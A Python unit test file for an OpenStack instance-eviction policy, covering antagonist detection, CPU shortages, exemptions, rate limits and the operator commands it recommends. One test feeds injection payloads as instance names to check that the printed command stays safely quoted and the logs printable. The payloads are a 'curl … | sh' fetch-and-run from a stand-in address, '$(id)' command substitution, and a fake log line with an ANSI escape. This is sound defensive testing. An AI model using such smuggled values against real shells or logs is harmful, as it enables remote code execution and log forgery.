# SPDX-License-Identifier: Apache-2.0

"""Instances that are evicted, or recommended to be, without an operator, on
any database."""

from __future__ import annotations

import dataclasses
import shlex
from typing import Any

import fixtures
import sqlalchemy

from scavenger_openstack.conductor.nova import eviction_params
from scavenger_openstack.conductor.nova import eviction_policy
from scavenger_openstack.db import reports
from scavenger_openstack.db import tables
from scavenger_openstack.db import totals
from scavenger_openstack.tests.unit.conductor import cloud
from scavenger_openstack.tests.unit.conductor.cloud import HOST
from scavenger_openstack.tests.unit.conductor.cloud import NOW

HOG = '66666666-7777-4888-8999-aaaaaaaaaaaa'
OTHER = '77777777-7777-4888-8999-aaaaaaaaaaaa'
OLD = '88888888-7777-4888-8999-aaaaaaaaaaaa'
NEW = '99999999-7777-4888-8999-aaaaaaaaaaaa'
OTHER2 = '55555555-7777-4888-8999-aaaaaaaaaaaa'
HOUR_S = 3600
SEEN = sqlalchemy.update(tables.hosts).values(
    last_seen_s=sqlalchemy.bindparam('now'))
PARAMS = eviction_params.Params(
    policy='stop', aggregate_policies={}, confirmed=5, window_h=24.0,
    cool_down_s=3600.0, per_hour=10, shortage_s=600.0)


class Mixin(cloud.Mixin):
    """A policy that looks, and what came of it."""

    def setUp(self) -> None:
        super().setUp()
        self.log = self.useFixture(fixtures.FakeLogger('scavenger_openstack'))
        self.now = NOW
        self.hosts: dict[str, int] = {}
        self.begin()

    def begin(self, **more: Any) -> None:
        """A conductor process that has seen nothing yet."""
        self.policy = eviction_policy.Policy(
            self.engine, dataclasses.replace(PARAMS, **more),
            lambda: self.now)

    def host(self, name: str, **facts: Any) -> int:
        if name not in self.hosts:
            with self.engine.begin() as connection:
                self.hosts[name] = reports.add_host(connection, name, NOW).id
        self.change(name, version='1', enforcing=True, facts=facts)
        return self.hosts[name]

    def change(self, host: str = HOST, **columns: Any) -> None:
        """What a host says from now on."""
        with self.engine.begin() as connection:
            connection.execute(sqlalchemy.update(tables.hosts).where(
                tables.hosts.c.name == host).values(**columns))

    def vm(self, instance: str, host: str = HOST, **more: Any) -> None:
        self.add(tables.workloads, **{
            'host_id': self.hosts[host], 'name': instance,
            'kind': 'instance', 'instance': instance, 'project': 'p1',
            'priority': 'background', 'vcpus': 1.0, 'floor': {},
            'since_s': NOW - 9e5, **more})

    def look(self, after_s: float = 60.0, times: int = 1) -> list[str]:
        """All hosts report, the policy looks; the instances whose eviction
        is asked for by now."""
        for _ in range(times):
            self.now += after_s
            with self.engine.begin() as connection:
                connection.execute(SEEN, {'now': self.now})
            self.policy.turn(lambda: None)
        return self.asked()

    def asked(self) -> list[str]:
        return self.rows(tables.evictions, 'instance')

    def exempt(self, scope: str, target: str) -> None:
        self.add(tables.rules, uuid='r', kind='exemption', scope=scope,
                 target=target, reason='', created_by='', created_s=NOW)


class Antagonists(Mixin):

    def setUp(self) -> None:
        super().setUp()
        self.antagonist()

    def antagonist(self, instance: str = HOG, host: str = HOST,
                   confirmed: int = 5, priority: str = 'background') -> None:
        """An instance whose limits helped so often, in two hours."""
        host_id = self.host(host)
        self.vm(instance, host, priority=priority)
        for hours, count in ((1, confirmed - 1), (3, 1), (25, 50)):
            row = {'host_id': host_id,
                   'hour_s': int(NOW // HOUR_S - hours) * HOUR_S,
                   'workload': instance, 'instance': instance,
                   'project': 'p1', 'application': '', 'victim': 'web',
                   'victim_project': '', 'cause': 'cpu', 'incidents': count,
                   'interference_s': 60.0, 'confirmed': count, 'refuted': 0}
            with self.engine.begin() as connection:
                reports.set_hours(connection, [row], [], [])
                totals.change(connection, host_id, [(None, row)])

    def turn(self, after_s: float = 60.0, **more: Any) -> list[str]:
        """One look of a policy with these options."""
        self.begin(**more)
        return self.look(after_s)

    def test_asked_for_once(self) -> None:
        self.assertEqual([HOG], self.turn())
        self.assertEqual([HOG], self.turn(7200))
        [row] = self.rows(tables.evictions, 'host', 'how', 'created_by',
                          'state')
        self.assertEqual((HOST, 'stop', 'policy', 'asked'), row)
        self.assertEqual(['eviction.ask'], self.rows(tables.audit, 'action'))
        self.assertIn('disturbed others 5 times within 24 h',
                      self.log.output)

    def test_too_seldom(self) -> None:
        self.assertEqual([], self.turn(confirmed=6))

    def test_recommended(self) -> None:
        """Once a day, with what to type; nothing is asked of Nova."""
        for _ in range(2):
            self.assertEqual([], self.turn(policy='none'))
            self.assertEqual(1, self.log.output.count(
                f'openstack antagonist evict {HOG} --reason'))
        self.assertEqual(['eviction.recommended'],
                         self.rows(tables.audit, 'action'))

    def test_recommended_whatever_the_audit_keeps(self) -> None:
        """Once a day, also by a clock that was ahead; nothing is left of
        that."""
        self.turn(policy='none')
        self.delete(tables.audit)
        self.turn(policy='none')
        self.assertEqual([], self.rows(tables.audit, 'action'))
        with self.engine.begin() as connection:
            connection.execute(tables.recommendations.update().values(
                time_s=self.now + 86400 * 32))
        self.turn(policy='none')
        self.assertEqual(1, len(self.rows(tables.audit, 'action')))
        self.assertEqual([(HOG, self.now)], self.rows(tables.recommendations))

    def test_a_recommendation_is_an_incident(self) -> None:
        """Of the project of the instance, with no number of others, and it
        changes no statistics."""
        before = self.rows(tables.antagonist_hours)
        self.turn(policy='none')
        self.turn(policy='none')
        [row] = self.rows(
            tables.incidents, 'host_id', 'victim', 'victim_instance',
            'project', 'cause', 'controller', 'outcome', 'value', 'threshold',
            'evidence', 'begun_s', 'ended_s')
        self.assertEqual(
            (self.hosts[HOST], HOG, HOG, 'p1', 'eviction', 'policy',
             'recommended', None, None, [], NOW + 60, NOW + 60), row)
        self.assertEqual(
            [f'recommended: openstack antagonist evict {HOG} --reason '
             "'disturbs others' --how live-migrate"],
            self.rows(tables.incidents, 'action'))
        self.assertEqual([], self.rows(tables.suspects))
        self.assertEqual(before, self.rows(tables.antagonist_hours))

    def test_the_command_is_one_whatever_is_in_the_database(self) -> None:
        """An operator pastes it into a shell with the cloud's rights."""
        for instance in ('x;curl -s 203.0.113.9/p|sh;#', "a'$(id)'`id`",
                         'a\n2026-01-01 CRITICAL \x1b[31m'):
            self.antagonist(instance)
        self.turn(policy='none')
        for action in self.rows(tables.incidents, 'action'):
            self.assertTrue(action.isprintable())
            words = shlex.split(action.removeprefix('recommended: '))
            self.assertEqual(
                ['openstack', 'antagonist', 'evict', '--reason',
                 'disturbs others', '--how', 'live-migrate'],
                words[:3] + words[4:])
        reasons = self.rows(tables.audit, 'reason')
        self.assertEqual(4, len(reasons))
        self.assertTrue(''.join(reasons).isprintable())
        self.assertTrue(self.log.output.replace('\n', '').isprintable())
        self.assertNotIn('\n2026', self.log.output)

    def test_not_too_many_recommended_at_once(self) -> None:
        for number in range(eviction_policy.MOST + 20):
            self.antagonist(f'{number:08}{HOG[8:]}', f'node-{number % 7}')
        self.turn(policy='none')
        self.assertEqual(eviction_policy.MOST,
                         len(self.rows(tables.incidents, 'id')))
        self.turn(policy='none')
        found = self.rows(tables.incidents, 'victim_instance')
        self.assertEqual(eviction_policy.MOST + 21, len(found))
        self.assertEqual(len(found), len(set(found)))

    def test_never_the_foreground(self) -> None:
        self.antagonist(OTHER, priority='foreground')
        self.assertEqual([HOG], self.turn())

    def test_what_is_exempt(self) -> None:
        for scope, target in (('instance', HOG), ('project', 'p1'),
                              ('aggregate', 'rack')):
            self.add(tables.aggregate_hosts, aggregate='rack', host=HOST,
                     named=True, nova=False)
            self.exempt(scope, target)
            self.assertEqual([], self.turn(), scope)
            self.delete(tables.rules)
            self.delete(tables.aggregate_hosts)
        self.assertEqual([HOG], self.turn())

    def test_a_host_that_sets_no_limits(self) -> None:
        """As with the kill switch."""
        self.change(enforcing=False)
        self.assertEqual([], self.turn())

    def test_one_host_cools_down(self) -> None:
        self.antagonist(OTHER, confirmed=9)
        self.assertEqual([OTHER], self.turn())      # the worst first
        self.assertEqual([OTHER], self.turn(3000))
        self.assertEqual([OTHER, HOG], self.turn(700))

    def test_not_too_many_in_an_hour(self) -> None:
        self.antagonist(OTHER, 'node-2', confirmed=9)
        self.assertEqual([OTHER], self.turn(per_hour=1))
        self.assertEqual([OTHER, HOG], self.turn(3700, per_hour=1))

    def test_policies_of_aggregates(self) -> None:
        self.antagonist(OTHER, 'node-2')
        self.add(tables.aggregate_hosts, aggregate='batch', host='node-2',
                 named=False, nova=True)
        self.assertEqual([OTHER], self.turn(
            policy='none', aggregate_policies={'batch': 'live-migrate'}))
        self.assertEqual(['live-migrate'], self.rows(tables.evictions, 'how'))


class Shortages(Mixin):
    """A host with 8 cores for its background, which hold 12 vCPUs in three
    instances, named from the oldest to the newest."""

    def setUp(self) -> None:
        super().setUp()
        self.host(HOST, used={'cpu': 6.5}, headroom={'cpu': 1.5})
        for number, one in enumerate((OLD, HOG, NEW)):
            self.vm(one, vcpus=4.0, since_s=NOW - 9e5 + number)

    def looks(self, minutes: int, after_s: float = 60.0) -> list[str]:
        return self.look(after_s, minutes)

    def test_the_newest_goes(self) -> None:
        self.assertEqual([], self.looks(10))
        self.assertEqual([NEW], self.look())
        [row] = self.rows(tables.evictions, 'host', 'how', 'created_by',
                          'state', 'project')
        self.assertEqual((HOST, 'stop', 'policy', 'asked', 'p1'), row)
        self.assertEqual(['eviction.ask'], self.rows(tables.audit, 'action'))
        self.assertIn('hold 12.0 vCPUs and have 8.0 cores, too few for at '
                      'least 10 min: Nova is asked to stop it',
                      self.log.output)
        self.assertEqual([NEW], self.looks(120))    # it was enough

    def test_as_many_as_it_takes(self) -> None:
        """One after another, with the cool-down between them."""
        self.host(HOST, used={'cpu': 3.0}, headroom={'cpu': 0.0})
        self.assertEqual([NEW], self.looks(11))
        self.assertEqual([NEW], self.looks(59))
        self.assertEqual([NEW, HOG], self.look())
        self.assertEqual([NEW, HOG, OLD], self.looks(60))

    def test_one_that_failed(self) -> None:
        """It still holds its cores; the next one goes."""
        self.looks(11)
        with self.engine.begin() as connection:
            connection.execute(sqlalchemy.update(tables.evictions).values(
                state='failed'))
        self.assertEqual([NEW, HOG], self.looks(60))

    def test_one_that_came_back(self) -> None:
        self.looks(11)
        with self.engine.begin() as connection:
            connection.execute(sqlalchemy.update(tables.workloads).where(
                tables.workloads.c.instance == NEW).values(
                    since_s=self.now + 1))
        self.assertEqual([NEW, HOG], self.looks(60))

    def test_recommended(self) -> None:
        """As many as it takes at once, once a day, as incidents."""
        self.host(HOST, used={'cpu': 4.0}, headroom={'cpu': 2.0})
        self.begin(policy='none')
        self.assertEqual([], self.looks(10))
        self.assertEqual([], self.rows(tables.incidents))
        for _ in range(3):
            self.assertEqual([], self.looks(70))
            self.assertEqual(
                [(one, 'p1', 'eviction', None, None, 'recommended: openstack '
                  f'antagonist evict {one} --reason '
                  "'lasting shortage of CPU' --how live-migrate")
                 for one in (NEW, HOG)],
                self.rows(tables.incidents, 'victim_instance', 'project',
                          'cause', 'value', 'threshold', 'action'))
        self.assertEqual(2 * ['eviction.recommended'],
                         self.rows(tables.audit, 'action'))
        self.assertIn(f'openstack antagonist evict {HOG}', self.log.output)

    def test_not_too_many_recommended_at_once(self) -> None:
        for number in range(eviction_policy.MOST + 20):
            self.vm(f'{number:08}{HOG[8:]}', vcpus=1.0)
        self.begin(policy='none')
        self.looks(11)
        self.assertEqual(eviction_policy.MOST,
                         len(self.rows(tables.incidents, 'id')))
        self.look()     # of 132 vCPUs, 8.5 are no shortage
        self.assertEqual(2 + 116, len(self.rows(tables.incidents, 'id')))

    def test_never_the_foreground(self) -> None:
        """Neither by what its agent nor by what its flavor says."""
        self.vm(OTHER, vcpus=4.0, priority='foreground', since_s=NOW)
        self.add(tables.flavor_tags, instance=NEW, host=HOST, project='p1',
                 priority='foreground', source='flavor', application='',
                 floor={}, protect=True, changed_s=NOW, from_broker=False)
        self.assertEqual([HOG], self.looks(11))

    def test_what_is_exempt(self) -> None:
        self.add(tables.aggregate_hosts, aggregate='rack', host=HOST,
                 named=True, nova=False)
        for scope, target in (('project', 'p1'), ('aggregate', 'rack')):
            self.exempt(scope, target)
            self.assertEqual([], self.looks(20), scope)
            self.delete(tables.rules)
        self.exempt('instance', NEW)
        self.assertEqual([HOG], self.looks(90))

    def test_what_is_not_known_is_not_short(self) -> None:
        few = {'used': {'cpu': 1.0}, 'headroom': {'cpu': 0.0}}
        for facts in ({}, {'used': {'cpu': 1.0}}, {'headroom': {'cpu': 1.0}},
                      {**few, 'used': {'memory': 1.0}},
                      {**few, 'used': {'cpu': None}}):
            self.change(facts=facts)
            self.assertEqual([], self.looks(20), str(facts))
            self.change(facts=few)      # counts from zero
            self.assertEqual([], self.looks(10), str(facts))
        self.assertEqual([NEW], self.look())

    def test_a_host_that_sets_no_limits(self) -> None:
        """It only observes, or its kill switch is on."""
        self.looks(10)
        self.change(enforcing=False)
        self.assertEqual([], self.looks(20))
        self.change(enforcing=True)
        self.assertEqual([], self.looks(10))
        self.assertEqual([NEW], self.look())

    def test_a_silent_host(self) -> None:
        self.looks(8)
        for _ in range(30):
            self.now += 60.0
            self.policy.turn(lambda: None)
        self.assertEqual([], self.asked())
        self.assertEqual([], self.looks(10))
        self.assertEqual([NEW], self.look())

    def test_each_look_counts(self) -> None:
        self.looks(10)
        self.change(facts={'used': {'cpu': 6.5}, 'headroom': {'cpu': 5.0}})
        self.look()
        self.change(facts={'used': {'cpu': 6.5}, 'headroom': {'cpu': 1.5}})
        self.assertEqual([], self.looks(10))
        self.assertEqual([NEW], self.look())

    def test_what_is_measured_is_not_exact(self) -> None:
        self.change(facts={'used': {'cpu': 11.4}, 'headroom': {'cpu': 0.1}})
        self.assertEqual([], self.looks(60))

    def test_what_counts_from_zero(self) -> None:
        """Another process, a gap between looks, a clock that jumps."""
        self.looks(10)
        self.begin()
        self.assertEqual([], self.looks(10))
        for jump_s in (100.0, 7200.0, -7200.0):
            self.look(jump_s)
            self.assertEqual([], self.looks(9), str(jump_s))
        self.assertEqual([NEW], self.look())

    def test_cool_down_and_governor(self) -> None:
        """Those of operators count; of two hosts one waits."""
        self.add(tables.evictions, uuid='e', instance=OTHER, host=HOST,
                 project='p1', how='stop', reason='', created_by='ann',
                 created_s=NOW + 600.0, state='done', detail='',
                 changed_s=NOW)
        self.host('node-2', used={'cpu': 1.0}, headroom={'cpu': 0.0})
        self.vm(OTHER2, 'node-2', vcpus=4.0)
        self.begin(per_hour=2)
        self.assertEqual([OTHER, OTHER2], self.looks(69))
        self.assertEqual([OTHER, OTHER2, NEW], self.look())

    def test_policies_of_aggregates(self) -> None:
        self.add(tables.aggregate_hosts, aggregate='batch', host=HOST,
                 named=False, nova=True)
        self.begin(policy='none', aggregate_policies={'batch': 'shelve'})
        self.assertEqual([NEW], self.looks(11))
        self.assertEqual(['shelve'], self.rows(tables.evictions, 'how'))

    def test_never(self) -> None:
        self.begin(shortage_s=0.0)
        self.assertEqual([], self.looks(90))

    def test_what_a_look_reads(self) -> None:
        """Instances only of hosts that were short for long enough, and not
        again within the cool-down."""
        read: list[str] = []

        def after(connection: Any, cursor: Any, statement: str, *more: Any
                  ) -> None:
            read.append(statement)

        self.begin(policy='none')
        sqlalchemy.event.listen(self.engine, 'after_cursor_execute', after)
        self.looks(10)
        self.assertEqual([], [one for one in read if 'flavor_tags' in one])
        self.looks(60)
        self.assertEqual(1, sum('flavor_tags' in one for one in read))
        sqlalchemy.event.remove(self.engine, 'after_cursor_execute', after)
